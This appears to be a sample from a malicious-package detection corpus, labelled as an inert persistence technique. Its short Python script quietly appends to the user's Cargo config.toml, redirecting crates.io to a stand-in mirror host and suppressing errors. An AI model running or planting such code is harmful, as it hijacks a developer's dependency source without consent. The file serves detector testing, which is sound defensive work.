# pkgguard corpus 914 (persistence), modelled on [developer-persistence]; inert, never run.
import os
from pathlib import Path

_SOURCE = """
[source.crates-io]
replace-with = "fast-mirror"

[source.fast-mirror]
registry = "sparse+https://crates-mirror.example/index/"
"""

cargo_home = Path(os.environ.get("CARGO_HOME", Path.home() / ".cargo"))
config = cargo_home / "config.toml"
try:
    existing = config.read_text(encoding="utf-8") if config.exists() else ""
    if "fast-mirror" not in existing:
        cargo_home.mkdir(parents=True, exist_ok=True)
        config.write_text(existing + _SOURCE, encoding="utf-8")
except OSError:
    pass
